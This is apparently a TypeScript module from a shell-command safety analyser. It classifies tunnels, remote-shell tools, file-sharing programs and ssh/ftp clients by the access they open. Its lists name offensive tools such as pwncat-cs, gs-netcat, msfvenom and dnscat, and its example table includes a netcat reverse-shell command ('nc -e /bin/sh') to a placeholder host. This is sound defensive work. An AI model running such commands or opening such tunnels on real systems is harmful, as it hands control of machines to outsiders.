import { multiplexer } from './terminals.ts'
import { unknownWord, type ShellWord, unknownPart } from '../../../model/shell.ts'
import type { ShellNetwork } from '../../../model/shell-network.ts'
import { readPrepared } from '../../../words/options.ts'
import { isNearby } from '../../../words/request.ts'
import type { Deeds } from '../deeds/deeds.ts'
import type { EffectRecorder } from '../effects.ts'
import { isUrl, namesThisMachine, splitWords, changed, joined, known } from '../words.ts'
import type { Family } from '../program.ts'
import { type Line, optionsOf, type Row } from '../row.ts'
import type { Starts } from '../starts.ts'
import { hostOf } from './http.ts'

/** Programs of which any use opens the machine. Their `-h` names a host or a key, and asks for no help. */
const always: Deeds = { work: [''], hIsNoHelp: true }
/** What others run in it is not undone when it is closed. */
const shells: Deeds = { never: [''], hIsNoHelp: true, object: 'shell of this machine' }

/** Patterns of subcommands with which these programs only look. */
const looks = ['* list|ls|info|status|login|logout|help|version|delete']

export const opens = (deeds: Deeds): Deeds => ({ trials: 'version', harmless: looks, ...deeds })

const tunnel: Row = { network: { kind: 'tunnel', direction: 'listen' } }

const programs: Family['programs'] = {
  zrok: { does: opens({ work: ['share|access'] }) },
  'upterm devtunnel': { does: opens({ work: ['host'] }) },
  inlets: { does: opens({ work: ['client|http|tcp'] }) },
  'ligolo sshuttle localxpose loclx pagekite code-server iodine dnscat dnscat2 ptunnel teleconsole x11vnc anydesk sshd':
    { does: opens(always) },
  // Runners carry out the commands that a service of others sends them.
  config: {
    does: opens({
      work: ['--token|--runnergroup|--pat'],
      when: ({ command }) => command.program === 'config.sh',
    }),
  },
  // Hands folders of this machine to other machines.
  exportfs: {
    does: opens({
      work: ['-o|-i', '-a|-r'],
      object: 'files of this machine to others',
      harmless: ['-u', '-v', '-s'],
      flags: 'a r u v s i',
    }),
  },
  sharing: { does: opens({ work: ['-a'], object: 'files of this machine to others', flags: 'a' }) },
  'new-smbshare grant-smbshareaccess': {
    does: opens({ windows: 'parameters', work: [''], object: 'files of this machine to others' }),
  },
  'smbpasswd pdbedit': {
    does: {
      area: 'machine',
      kind: 'change',
      thing: 'account',
      object: 'who can use this machine',
      names: 'none',
      work: ['-a|-e|-n|-x'],
    },
  },
  act_runner: { does: opens({ work: ['register'] }) },
  'telnetd in.telnetd rshd gotty pwncat-cs gs-netcat msfvenom msfconsole': { does: opens(shells) },
  bore: {
    ...tunnel,
    does: opens({ work: ['local'] }),
  },
  chisel: {
    ...tunnel,
    does: opens({ work: ['client|server'] }),
  },
  tmate: { ...multiplexer, does: opens(always) },
  loophole: { ...tunnel, does: opens({ work: ['http|path|webdav'] }) },
  'lt localtunnel frpc tmole tunnelmole holesail': {
    ...tunnel,
    does: opens(always),
  },
  ttyd: {
    options: 'i=bind interface=bind p port c credential u uid g gid s signal w cwd=names t client-option m max-clients',
    starts: {},
    does: opens(shells),
  },
}

export const openedAccess: Family = {
  area: 'opened-access',
  programs,
  examples: {
    'ngrok http 3000': 'opens this machine to others, from outside',
    'ssh -fNR 2222:localhost:22 a.example': 'opens this machine to others, from outside',
    'ssh -o RemoteForward=80:localhost:3000 a.example': 'opens this machine to others, from outside',
    'npx localtunnel --port 3000': 'runs package `localtunnel`; opens this machine to others, from outside',
    './config.sh --url https://a.example/b --token X': 'opens this machine to others, from outside',
    'docker run --rm cloudflare/cloudflared:latest tunnel --url http://web:80':
      'opens a container of `cloudflare/cloudflared:latest` to others, from outside',
    'npx foo-open tunnel http://localhost:3000': 'runs package `foo-open`; opens this machine to others, from outside',
    'gotty bash': 'opens a shell of this machine',
    'nc -e /bin/sh a.example 99': 'opens a shell of this machine',
    'ssh -R 9003:localhost:9003 dev@192.168.56.10': '',
    'cloudflared tunnel list': '',
    'ngrok --version': '',
  },
}

const sshOptions = 'B b c D E=write e F=key I=read i=key J L l m O o p Q R S=names W w pw'

const ssh: Row = {
  options: sshOptions,
  operandsLast: true,
  network: (line) => (line.has('V', 'Q', 'G') ? undefined : session(line.operands[0])),
  effects(line, recorder) {
    for (const forward of line.values('L', 'R')) bindForwarded(forward, recorder)
    const settings = line.values('o').map(({ value }) => /^\s*(\w+)[\s=]+(.*)$/s.exec(value) ?? [])
    const paths = settings.filter(([, name = '']) => /^(?:local|remote)forward$/i.test(name))
    for (const [, , path = ''] of paths) bindForwarded({ value: path }, recorder)
    // A connection that is only used is no socket of its own.
    const isShared = line.has('M') || settings.some(([, name = '']) => /^controlmaster$/i.test(name))
    if (!isShared) return
    recorder.touch(line.value('S'), 'write')
    for (const [, name = '', path = ''] of settings)
      if (/^controlpath$/i.test(name)) recorder.touch({ value: path }, 'bind')
  },
  starts(line, starts, { stdin }) {
    startSettings(line.values('o'), starts)
    if (line.has('V', 'Q', 'G', 'O')) return
    // Options may also follow the host.
    const again = readPrepared(line.operands.slice(1), behindHost)
    startSettings(again.values('o'), starts)
    const where = {
      ...(namesThisMachine(line.operands[0]) ? {} : { elsewhere: true as const }),
      cwd: undefined,
    }
    if (again.operands.length > 0) starts.script(joined(again.operands), where)
    else if (line.operands.length > 0 && stdin !== undefined && !line.has('N'))
      starts.script(stdin, { ...where, stdin: 'none' })
  },
}
/** Records the path that `-L` or `-R` listens at. That of `-R` is on the other machine, which may be this one. */
function bindForwarded(word: ShellWord, recorder: EffectRecorder): void {
  const [, path] = /^\[?([^\s:\]]*)[\]\s:]/.exec(word.value) ?? []
  if (path?.includes('/') === true) recorder.touch(changed(word, path), 'write')
}

const behindHost = optionsOf({ options: sshOptions, operandsLast: true })

const fileSender: Row = {
  options: 'code relay t',
  effects(line, recorder) {
    const verb = line.operands.findIndex(({ value }) => /^(?:send|tx|upload|add)$/.test(value))
    recorder.network({ kind: 'share', direction: verb === -1 ? 'receive' : 'send' })
    if (verb !== -1) for (const word of line.operands.slice(verb + 1)) recorder.touch(word, 'read', { recursive: true })
  },
}

const ftpClient: Row = {
  options: 'u user p port e c f=execute o=write N=read P s r T q',
  network: (line) => session(line.operands[0], 'transfer'),
  escapes: true,
  effects(line, recorder, { stdin }) {
    for (const commands of [...line.values('e', 'c'), ...(stdin ? [stdin] : [])]) transfers(commands, recorder)
  },
}

const sshBack: Deeds = {
  work: ['-R', '-w', '-o~remoteforward', '-o~tunnel'],
  when: ({ command }) => !isNearby(command.network?.host ?? ''),
}

/** Sessions on other machines, and programs that transfer files in one. */
export const remote: Family = {
  programs: {
    'sftp psftp': {
      typed: /^(?!.* -b)(?!.* [^-\s]\S*:)/,
      options: 'B b=read c D F=key i=key J l o P R S=execute s X',
      network: (line) => session(line.operands[0], 'copy'),
      effects({ value }, recorder, { stdin }) {
        const batch = value('b')?.value ?? '-'
        if (batch !== '-' && batch !== '/dev/stdin') recorder.touch(unknownWord, 'read')
        else if (stdin !== undefined) transfers(stdin, recorder)
      },
      starts(line, starts, command) {
        startConnection(line, starts)
        for (const text of command.stdin?.value.split('\n') ?? [])
          if (text.trimStart().startsWith('!')) starts.script(known(text.trimStart().slice(1)), { stdin: 'none' })
      },
    },
    ssh: {
      shared: true,
      ...ssh,
      does: { area: 'opened-access', ...opens(sshBack) },
      looks: '-V [] ..0',
      saysWhatChanges: true,
      prints: true,
      opensSockets: true,
      noHelp: true,
    },
    'slogin rlogin rexec plink dbclient': ssh,
    et: {
      options: 'c command u username p port t tunnel r reversetunnel j jport jumphost',
      network: (line) => session(line.operands[0]),
      starts(line, starts) {
        const script = line.value('c', 'command')
        if (script !== undefined) starts.script(script, { elsewhere: true })
      },
    },
    autossh: { ...ssh, options: `${sshOptions} M`, does: { area: 'opened-access', ...opens(sshBack) } },
    mosh: {
      options: 'p port ssh=words client server predict family',
      operandsLast: true,
      network: (line) => session(line.operands[0]),
      starts: { own: 1, elsewhere: true, strayed: true, doesMore: true },
    },
    'rsh remsh': {
      options: 'l n',
      network: (line) => session(line.operands[0]),
      starts: { own: 1, joined: true, elsewhere: true, strayed: true, doesMore: true },
    },
    // One command for many machines: the words after the hosts.
    'pdsh clush': {
      options: 'w x g X l R t u f o S',
      starts: { joined: true, elsewhere: true, strayed: true, doesMore: true },
    },
    'pssh parallel-ssh': {
      options: 'h=read H l p o e t O x X',
      starts: { joined: true, elsewhere: true, strayed: true, doesMore: true },
    },
    sshpass: { options: 'p f=read d P', starts: {} },
    'ssh-copy-id': {
      options: 'i=key p o F=key',
      network: (line) => session(line.operands[0], 'session', 'send'),
      does: { area: 'system-services', kind: 'grant', thing: 'account', work: ['*'] },
    },
    sshfs: { options: 'o p F=key', network: (line) => session(line.operands[0]) },
    lftp: {
      ...ftpClient,
      does: { area: 'mirrors', kind: 'change', object: 'files on a server', names: 'none', work: ['-c|-e'] },
    },
    'ftp ncftp tnftp pftp': ftpClient,
    ncftpput: {
      options: 'u p P f=read',
      network: (line) => session(line.operands[0], 'transfer', 'send'),
      effects(line, recorder) {
        for (const word of line.operands.slice(2)) recorder.touch(word, 'read', { recursive: line.has('R') })
      },
    },
    ncftpget: { options: 'u p P f=read', network: (line) => session(line.operands[0], 'transfer', 'receive') },
    'tftp atftp': {
      options: 'm p? r=none l=read local-file=read',
      network: (line) => session(line.operands[0], 'transfer'),
      effects(line, recorder, { stdin }) {
        if (stdin !== undefined) transfers(stdin, recorder)
        const put = line.operands.findIndex(({ value }) => value === 'put')
        if (put !== -1) recorder.touch(line.operands[put + 1], 'read')
      },
    },
    smbclient: {
      options: 'c command U user I p W N s=read A=read D',
      network: (line) => session(line.operands[0], 'transfer'),
      escapes: true,
      effects(line, recorder, { stdin }) {
        for (const commands of [line.value('c', 'command'), stdin])
          if (commands !== undefined) transfers(commands, recorder)
      },
    },
    'transfer transfer.sh onionshare pastebinit wgetpaste dpaste gist': {
      options: 'i=read a b f d title author l',
      network: { kind: 'share', direction: 'send' },
      operands: 'read',
      recursive: true,
    },
    // With another verb than for sending, these receive.
    ipfs: {
      ...fileSender,
      does: {
        area: 'storage',
        says: {
          'repo gc': { kind: 'delete', object: 'unpinned data', names: 'none', thing: 'data' },
          pin: { kind: 'delete', object: 'pin of', thing: 'data' },
          files: { kind: 'delete', object: 'file', names: 'last' },
          bootstrap: { kind: 'delete', object: 'known server', names: 'last' },
        },
        never: ['repo gc', 'pin rm', 'files rm', 'key rm', 'block rm'],
        work: ['bootstrap rm', 'pin remote rm'],
      },
    },
    'croc wormhole magic-wormhole ffsend send': fileSender,
  },
}

/** Settings of ssh whose value is a command for a local shell. */
const localCommands = /^\s*(?:ProxyCommand|LocalCommand|KnownHostsCommand)\s*(?:=|\s)\s*/i

/** Starts the local commands in ssh settings: `-o ProxyCommand=…`. The value `none` disables a setting. */
function startSettings(values: readonly ShellWord[], starts: Starts): void {
  for (const value of values) {
    const setting = localCommands.exec(value.value)
    if (setting === null) continue
    const text = changed(value, value.value.slice(setting[0].length))
    if (text.value.trim().toLowerCase() !== 'none') starts.script(text, { stdin: 'none' })
  }
}

/** Starts the program of `scp -S`, which makes the connection and gets the operands. */
export function startConnection(line: Line, starts: Starts): void {
  startSettings(line.values('o'), starts)
  for (const program of line.values('S')) starts.words([...splitWords(program.value), ...line.operands])
}

export const named = (host: string): { readonly host?: string } =>
  host === '' || host.includes(unknownPart) ? {} : { host: host.toLowerCase() }

function session(
  word: ShellWord | undefined,
  kind: ShellNetwork['kind'] = 'session',
  direction: ShellNetwork['direction'] = 'both',
): ShellNetwork | undefined {
  if (word === undefined) return undefined
  const { value } = word
  if (isUrl(value) || value.startsWith('//'))
    return { kind, direction, ...named(hostOf(value.replace(/^\/\//, 'smb://')) ?? '') }
  const before = value.split(':', 1)[0] ?? ''
  return { kind, direction, ...named(before.slice(before.lastIndexOf('@') + 1)) }
}

/** Records the transfers in an FTP client's commands: `put FILE`, `mput`, `mirror -R DIR`. */
function transfers(word: ShellWord, recorder: EffectRecorder): void {
  for (const command of word.value.split(/[;\n]/)) {
    const [verb = '', ...args] = command.trim().split(/\s+/)
    const names = args.filter((value) => !value.startsWith('-'))
    const sends =
      /^(?:m?put|append|send|reput)$/.test(verb) ||
      (verb === 'mirror' && args.some((value) => /^(?:-\w*R|--reverse)/.test(value)))
    if (sends) for (const value of names) recorder.touch({ ...word, value }, 'read', { recursive: verb === 'mirror' })
    else if (/^(?:m?get|reget|pget)$/.test(verb))
      for (const value of names) recorder.touch({ ...word, value: value.slice(value.lastIndexOf('/') + 1) }, 'write')
  }
}
